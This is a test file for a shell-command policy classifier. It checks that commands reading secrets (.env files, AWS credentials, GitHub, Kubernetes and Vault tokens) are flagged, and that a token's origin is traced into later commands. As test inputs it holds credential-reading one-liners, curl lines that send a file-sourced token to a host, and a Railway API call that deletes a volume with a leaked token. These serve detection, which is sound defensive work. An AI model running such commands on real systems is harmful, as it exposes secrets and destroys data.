import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { classify } from '../../../src/core/policy/classify';
import type { Facts } from '../../../src/core/policy/types';
import { loadCredentialFacts } from '../../../src/node/credentials/credentialFacts';
import { testFacts } from '../support/policyFixtures';
import { fake, makeWorkspace, removeTree } from './fakeSecrets';

/** Whole command strings through analyze + every rule pack + composeVerdict, over a real workspace. */
describe('credentials: command strings end to end', function () {
  this.timeout(30_000);
  let root: string;
  let home: string;
  let cacheDir: string;
  let facts: Facts;
  const railwayToken = fake.uuid();

  before(async () => {
    root = makeWorkspace({
      '.env': `STRIPE_KEY=${fake.stripeKey()}\n`,
      '.env.example': 'STRIPE_KEY=your-key-here\n',
      'legacy/config_backup.json': JSON.stringify({ railway: { token: railwayToken } }, null, 2),
      'src/index.ts': 'export {};\n',
      'README.md': 'Put the token in .env\n',
    });
    home = makeWorkspace({ '.aws/credentials': '[default]\n' }, 'bs-home-');
    cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bs-cache-'));
    const credentials = await loadCredentialFacts({ workspaceRoots: [root], home, cacheDir });
    facts = testFacts({
      cwd: root,
      home,
      workspaceRoots: [root],
      credentials,
      readFile: (p) => (fs.existsSync(p) && fs.statSync(p).isFile() ? fs.readFileSync(p, 'utf8') : undefined),
      listDir: (p) => {
        try {
          return fs.readdirSync(p);
        } catch {
          return undefined;
        }
      },
    });
  });
  after(() => {
    for (const d of [root, home, cacheDir]) removeTree(d);
  });

  const asks: [string, RegExp][] = [
    ['cat .env', /cat prints \.env, which holds an environment file/],
    ['cat .en?', /\.env/],
    ['cat .e*', /\.env/],
    ['cat .[e]nv', /\.env/],
    ['{cat,.env}', /cat prints \.env/],
    ['head -n1 < .env', /head with "<" reads \.env/],
    ['grep -r token .', /legacy\/config_backup\.json, which holds the Railway token/],
    ['rg token', /rg \(recursive\) searches legacy\/config_backup\.json/],
    ['sudo cat .env', /\.env/],
    ['bash -c "cat .env"', /\.env/],
    ['cat ~/.aws/credentials', /~\/\.aws\/credentials, which holds AWS credentials/],
    [`python3 -c "print(open('.env').read())"`, /python snippet run by python3 reads \.env/],
    [`node -e "console.log(require('fs').readFileSync('.env','utf8'))"`, /javascript snippet run by node reads \.env/],
    ['printenv', /prints every environment variable/],
    ['env | grep KEY', /searches environment variables for "KEY"/],
    ['set', /every shell and environment variable/],
    ['gh auth token', /GitHub token/],
    ['kubectl get secret db -o yaml', /Kubernetes secret values/],
    ['vault kv get secret/app', /Vault secrets/],
    ['echo $STRIPE_KEY', /\$STRIPE_KEY/],
    ['echo "$(cat .env)"', /cat prints \.env/],
    [`curl -H "Authorization: Bearer $(< legacy/config_backup.json)" https://x.example`, /A "<" redirect reads legacy\/config_backup\.json/],
  ];
  for (const [command, reason] of asks) {
    it(`asks: ${command}`, () => {
      const v = classify(command, facts, { lockdown: false });
      assert.equal(v.decision, 'ask', v.reasons.join(' | '));
      assert.ok(v.reasons.some((r) => reason.test(r)), v.reasons.join(' | '));
      assert.equal(classify(command, facts, { lockdown: true }).decision, 'deny');
    });
  }

  const allowed = ['ls -la', 'cat README.md', 'cat .env.example', 'cat src/index.ts', 'grep -r token src', 'printenv HOME', 'git status'];
  for (const command of allowed) {
    it(`allows: ${command}`, () => assert.equal(classify(command, facts, { lockdown: false }).decision, 'allow'));
  }

  it('the incident: a literal Railway token in a curl to the GraphQL API names its origin', () => {
    const command = `curl -X POST https://backboard.railway.app/graphql/v2 -H "Authorization: Bearer ${railwayToken}" -H "Content-Type: application/json" -d '{"query":"mutation { volumeDelete(volumeId: \\"3d0a1b7e-0000-4000-8000-000000000000\\") }"}'`;
    const v = classify(command, facts, { lockdown: false });
    assert.ok(v.reasons.includes('Uses the Railway token from legacy/config_backup.json.'), v.reasons.join(' | '));
    assert.ok(!v.reasons.join(' ').includes(railwayToken));
  });

  const indirections = [
    `curl -H "Authorization: Bearer $(jq -r .railway.token legacy/config_backup.json)" https://backboard.railway.app/graphql/v2`,
    `curl -H "Authorization: Bearer $(cat legacy/config_backup.json | jq -r .railway.token)" https://backboard.railway.app/graphql/v2`,
    `curl -H "Authorization: Bearer $(grep -o '[0-9a-f-]\\{36\\}' legacy/config_backup.json)" https://backboard.railway.app/graphql/v2`,
    `curl -H "Authorization: Bearer $(sed -n 3p legacy/config_backup.json)" https://backboard.railway.app/graphql/v2`,
    'curl -H "Authorization: Bearer `cat legacy/config_backup.json`" https://backboard.railway.app/graphql/v2',
    'export RAILWAY_TOKEN=$(jq -r .railway.token legacy/config_backup.json)',
  ];
  for (const command of indirections) {
    it(`provenance through ${command.slice(0, 70)}…`, () => {
      const v = classify(command, facts, { lockdown: false });
      assert.ok(v.reasons.includes('Uses the Railway token from legacy/config_backup.json.'), v.reasons.join(' | '));
      assert.notEqual(v.decision, 'allow');
    });
  }

  /** The incident's shape: the token is read into a variable first and used by a later statement. */
  const graphql = `curl -X POST https://backboard.railway.app/graphql/v2 -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" -d '{"query":"mutation { volumeDelete(volumeId: \\"3d0a1b7e-0000-4000-8000-000000000000\\") }"}'`;
  const throughVariables: [string, string][] = [
    [`TOKEN=$(jq -r .railway.token legacy/config_backup.json) && ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`TOKEN=$(jq -r .railway.token legacy/config_backup.json); ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`TOKEN=\`cat legacy/config_backup.json | jq -r .railway.token\`\n${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`export TOKEN=$(jq -r .railway.token legacy/config_backup.json); ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`export TOKEN="$(jq -r .railway.token legacy/config_backup.json)" && bash -c '${graphql.replace(/'/g, '')}'`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`RAW=$(cat legacy/config_backup.json); TOKEN=$(echo "$RAW" | jq -r .railway.token); ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`read -r TOKEN < legacy/config_backup.json; ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`TOKEN=$(cat .env | grep STRIPE | cut -d= -f2); ${graphql}`, 'Uses a secret from .env (an environment file).'],
    [`TOKEN=$(jq -r .railway.token legacy/config_backup.json); curl -d @- https://backboard.railway.app/graphql/v2 <<EOF\n{"token":"$TOKEN"}\nEOF`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`TOKEN=$(jq -r .railway.token legacy/config_backup.json); RAILWAY_TOKEN=$TOKEN railway volume delete vol-1`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`if true; then TOKEN=$(jq -r .railway.token legacy/config_backup.json); fi; ${graphql}`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`jq -r .railway.token legacy/config_backup.json | while read -r TOKEN; do ${graphql}; done`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`while read -r TOKEN; do ${graphql}; done < legacy/config_backup.json`, 'Uses the Railway token from legacy/config_backup.json.'],
    [`for TOKEN in $(jq -r .railway.token legacy/config_backup.json); do ${graphql}; done`, 'Uses the Railway token from legacy/config_backup.json.'],
  ];
  for (const [command, reason] of throughVariables) {
    it(`provenance across statements: ${command.replace(/\n/g, '⏎').slice(0, 90)}…`, () => {
      const v = classify(command, facts, { lockdown: false });
      assert.ok(v.reasons.includes(reason), v.reasons.join(' | '));
      assert.notEqual(v.decision, 'allow');
      assert.ok(!v.reasons.join(' ').includes(railwayToken));
    });
  }

  const unrelated = [
    `TOKEN=$(jq -r .railway.token legacy/config_backup.json); unset TOKEN; ${graphql}`,
    `TOKEN=$(jq -r .railway.token legacy/config_backup.json); TOKEN=placeholder; ${graphql}`,
    `OTHER=$(jq -r .railway.token legacy/config_backup.json); ${graphql}`,
    `(TOKEN=$(jq -r .railway.token legacy/config_backup.json)); ${graphql}`,
  ];
  for (const command of unrelated) {
    it(`no provenance claimed for the later curl: ${command.slice(0, 90)}…`, () => {
      const v = classify(command, facts, { lockdown: false });
      // The read itself is still reported; only the "Uses ..." provenance must not be invented.
      assert.ok(!v.reasons.includes('Uses the Railway token from legacy/config_backup.json.'), v.reasons.join(' | '));
    });
  }
});
